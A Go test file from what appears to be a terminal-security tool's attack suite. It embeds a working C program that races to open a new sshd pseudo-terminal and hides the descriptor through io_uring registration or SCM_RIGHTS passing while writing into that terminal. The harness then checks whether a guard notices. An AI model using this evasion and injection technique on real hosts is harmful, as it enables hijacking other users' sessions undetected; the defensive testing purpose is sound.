// SPDX-License-Identifier: AGPL-3.0-or-later

package attacks

import (
	"strings"

	"castgate/packaging/hosttest"
)

// hide is a lurker that has sshd's terminal in no table of descriptors: it is
// registered with an io_uring, or on its way through a socket, where it is
// taken out for each write.
const hide = `
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char word[] = "SECRET\r\n";

static int lurk(void) {
	char name[32], old[64];
	int i, fd;
	for (i = 0; i < 64; i++) {
		snprintf(name, sizeof name, "/dev/pts/%d", i);
		old[i] = access(name, F_OK) == 0;
	}
	puts("watching");
	fflush(stdout);
	for (i = 0;; i = (i + 1) % 64) {
		snprintf(name, sizeof name, "/dev/pts/%d", i);
		if (!old[i] && (fd = open(name, O_RDWR | O_NOCTTY)) >= 0)
			return fd;
	}
}

static void ring(int tty) {
	struct io_uring_params p = {0};
	int r = syscall(SYS_io_uring_setup, 4, &p);
	char *sq = mmap(0, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE, MAP_SHARED, r, IORING_OFF_SQ_RING);
	struct io_uring_sqe *sqe = mmap(0, p.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE, MAP_SHARED, r, IORING_OFF_SQES);
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail), *array = (unsigned *)(sq + p.sq_off.array), i;
	if (r < 0 || syscall(SYS_io_uring_register, r, IORING_REGISTER_FILES, &tty, 1))
		exit(1);
	for (close(tty);; usleep(100000)) {
		i = *tail % p.sq_entries;
		memset(&sqe[i], 0, sizeof *sqe);
		sqe[i].opcode = IORING_OP_WRITE;
		sqe[i].flags = IOSQE_FIXED_FILE;
		sqe[i].addr = (unsigned long)word;
		sqe[i].len = sizeof word - 1;
		sqe[i].off = -1;
		array[i] = i;
		__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
		syscall(SYS_io_uring_enter, r, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
	}
}

static int pass(int s, int fd) {
	char c = 'x', buf[CMSG_SPACE(sizeof fd)] = {0};
	struct iovec v = {&c, 1};
	struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = buf, .msg_controllen = sizeof buf};
	struct cmsghdr *h = CMSG_FIRSTHDR(&m);
	if (fd < 0) {
		recvmsg(s, &m, 0);
		memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
		return fd;
	}
	h->cmsg_level = SOL_SOCKET;
	h->cmsg_type = SCM_RIGHTS;
	h->cmsg_len = CMSG_LEN(sizeof fd);
	memcpy(CMSG_DATA(h), &fd, sizeof fd);
	sendmsg(s, &m, 0);
	return close(fd);
}

static void flight(int tty) {
	int s[2];
	socketpair(AF_UNIX, SOCK_STREAM, 0, s);
	for (;;) {
		pass(s[0], tty);
		usleep(100000);
		tty = pass(s[1], -1);
		write(tty, word, sizeof word - 1);
	}
}

int main(int argc, char **argv) {
	int tty = lurk();
	strcmp(argv[1], "ring") ? flight(tty) : ring(tty);
}
`

// hidden lets the lurker win the race for sshd's terminal and looks who is told
// of what it then writes there.
func hidden(how string) func(w *world) verdict {
	return func(w *world) verdict {
		w.user.Write(w, "hide.c", hide)
		hosttest.Run(w, "gcc", "-O1", "-o", w.user.Home+"/hide", w.user.Home+"/hide.c")
		told := func() bool { return w.log.Find("guard report", "holders=", "hide") != "" }
		done := false
		for range 5 { // it is a race, and the lurker has to win it
			lurk := hosttest.StartTerminal(w, w.user.Command(w.user.Home+"/hide", how), 80, 24)
			lurk.Expect("watching")
			x := w.terminal()
			// Some of it may come before the guard has looked.
			done = w.showsTimes(x, "SECRET", strings.Count(x.Output(), "SECRET")+3)
			if done || told() {
				break
			}
		}
		switch {
		case !told():
			return w.judge(done, "SECRET")
		case w.runs("/hide " + how):
			return works
		}
		return seen
	}
}
